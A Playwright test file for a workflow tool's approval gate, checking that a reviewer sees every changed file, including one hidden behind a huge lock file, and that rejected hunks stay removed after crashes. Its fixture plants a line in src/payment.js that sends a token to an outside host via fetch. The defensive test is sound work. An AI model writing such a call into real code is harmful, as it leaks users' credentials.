import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import type { Muster } from '../fixtures/launch';
import { canDecide, expect, scripted, test, WORKFLOW } from '../fixtures/test';

const show = (muster: Muster, hash: string): Promise<void> =>
  muster.page.evaluate((to) => {
    location.hash = to;
  }, hash);

const workflow = `name: Pay
steps:
  - id: build
    type: step.coding
    config:
      instruction: Build it.
      agents: [{role: builder, acp_profile_id: worker}]
  - id: ok
    type: step.approval
    config: {message: Take it?}
  - id: use
    type: step.command
    config: {script: 'printf "%s" "$DATA_IN" > "$ARTIFACTS_DIR/received.diff"', terminal: false}
cables:
  - {from: build.diff_out, to: ok.data_in}
  - {from: ok.approved_out, to: use.data_in}
`;
const lock = Array.from({ length: 6_002 }, (_, line) => `  "package-${line + 1}": "1.0.0",`);
const quoted = (text: string) => JSON.stringify(text);
const script = `default:
  do:
    - write: {path: package-lock.json, content: ${quoted(`${lock.join('\n')}\n`)}}
    - write: {path: src/payment.js, content: "fetch('https://example.org/?token=' + token);\\n"}
    - write: {path: notes.md, content: "# Notes\\n"}
  text: Built.
`;

async function atGate(bench: Parameters<Parameters<typeof test>[2]>[0]['bench'], muster: Muster) {
  const project = await bench.project(muster, scripted(workflow, script));
  await muster.call('settings.set', { settings: { undoSeconds: 5 } });
  const { runId } = await muster.call('run.start', { projectId: project.id, file: WORKFLOW });
  await bench.until(muster, runId, ({ row }) => row.openGates === 1);
  return { runId, project };
}

/** The decision is held by the core, and not carried out yet. */
async function approve(page: Page): Promise<void> {
  await canDecide(page);
  await page.getByRole('button', { name: /^Approve/ }).click();
  await expect(page.getByRole('button', { name: /^Undo/ }).first()).toBeVisible();
}

const received = (artifactsDir: string): string =>
  readFileSync(join(artifactsDir, 'artifacts', 'received.diff'), 'utf8');

test('a gate shows every file of a change with its true size, and the next step gets all of it after a kill', async ({
  bench,
}) => {
  const muster = await bench.launch();
  const { page } = muster;
  const { runId } = await atGate(bench, muster);
  await show(muster, `#/gate/${runId}/1`);
  const changes = page
    .getByRole('article', { name: 'ok' })
    .getByRole('region', { name: 'Changes', exact: true });
  await expect(changes).toContainText('3 files changed');
  await expect(changes.locator('header').first()).toContainText(/6,?004/);
  const list = changes.getByRole('navigation', { name: 'Files that changed' });
  await expect(list).toContainText('package-lock.json');
  await expect(list).toContainText('payment.js');
  await list.getByRole('treeitem', { name: /payment\.js/ }).click();
  await expect(changes.getByRole('region', { name: /^Hunk .* of src\/payment\.js/ })).toContainText(
    "fetch('https://example.org/?token=' + token);",
  );
  await list.getByRole('treeitem', { name: /package-lock\.json/ }).click();
  await changes.getByRole('button', { name: /Show the diff of package-lock\.json/ }).click();
  await expect(changes.getByRole('region', { name: /^Hunk .* of package-lock\.json/ })).toContainText(
    '"package-1"',
  );
  await approve(page);
  process.kill(await muster.corePid(), 'SIGKILL');
  const { state } = await bench.until(muster, runId, ({ row }) => row.status === 'succeeded');
  const text = received(state.artifactsDir);
  expect(text.match(/^diff --git /gm)).toHaveLength(3);
  expect(text).toContain("+fetch('https://example.org/?token=' + token);");
  expect(text).toContain('+  "package-6002": "1.0.0",');
});

test('a hunk that was taken back is gone at the gate, in the next step and in the checkout, across kills', async ({
  bench,
}) => {
  const muster = await bench.launch();
  const { page } = muster;
  const { runId, project } = await atGate(bench, muster);
  const of = { kind: 'capture' as const, captureId: 1 };
  const before = await muster.call('workspace.diff', { runId, of });
  await show(muster, `#/gate/${runId}/1`);
  const gate = page.getByRole('article', { name: 'ok' });
  await expect(gate).toContainText('3 files changed');
  const hunkIn = async (path: string) => {
    const { files } = await muster.call('workspace.diff', { runId, of: { kind: 'turn', turnId: 1 } });
    return {
      runId,
      sessionId: 1,
      turnId: 1,
      path,
      hunk: files.find((file) => file.path === path)?.hunks[0]?.id ?? '',
    };
  };
  await muster.call('workspace.reject', await hunkIn('src/payment.js'));
  process.kill(await muster.corePid(), 'SIGKILL');
  // The window has not looked again: what it shows no longer holds.
  await expect(async () => {
    const answer = { runId, gateId: 1, answer: { option: 'approve' }, shown: [before.shown] };
    await expect(muster.call('gate.resolve', answer)).rejects.toThrow(/edited after they were shown/);
  }).toPass();
  await page.reload();
  await expect(gate).toContainText('2 files changed');
  await expect(gate).not.toContainText('payment.js');
  await approve(page);
  process.kill(await muster.corePid(), 'SIGKILL');
  const { state } = await bench.until(muster, runId, ({ row }) => row.status === 'succeeded');
  expect(received(state.artifactsDir)).not.toContain('payment.js');

  // The same after the end of the run.
  const result = { kind: 'result' as const };
  const shown = await muster.call('workspace.diff', { runId, of: result });
  expect(shown.files.map(({ path }) => path)).toEqual(['notes.md', 'package-lock.json']);
  await muster.call('workspace.reject', await hunkIn('notes.md'));
  await expect(muster.call('run.apply', { runId, shown: shown.shown })).rejects.toThrow(
    /edited after it was shown/,
  );
  await show(muster, `#/run/${state.uid}`);
  await page.getByRole('button', { name: /^Apply to checkout/ }).click();
  const dialog = page.getByRole('dialog', { name: 'Apply to your checkout' });
  await expect(dialog).toContainText('1 file changed');
  await expect(dialog).toContainText('package-lock.json');
  await dialog.getByRole('button', { name: /^Apply/ }).click();
  process.kill(await muster.corePid(), 'SIGKILL');
  // Whatever the kill left undone is done by applying once more.
  await expect(async () => {
    expect(await muster.call('run.apply', { runId })).toMatchObject({ target: 'main' });
  }).toPass();
  expect(readFileSync(join(project.path, 'package-lock.json'), 'utf8')).toContain('"package-6002"');
  expect(existsSync(join(project.path, 'src/payment.js'))).toBe(false);
  expect(existsSync(join(project.path, 'notes.md'))).toBe(false);
});
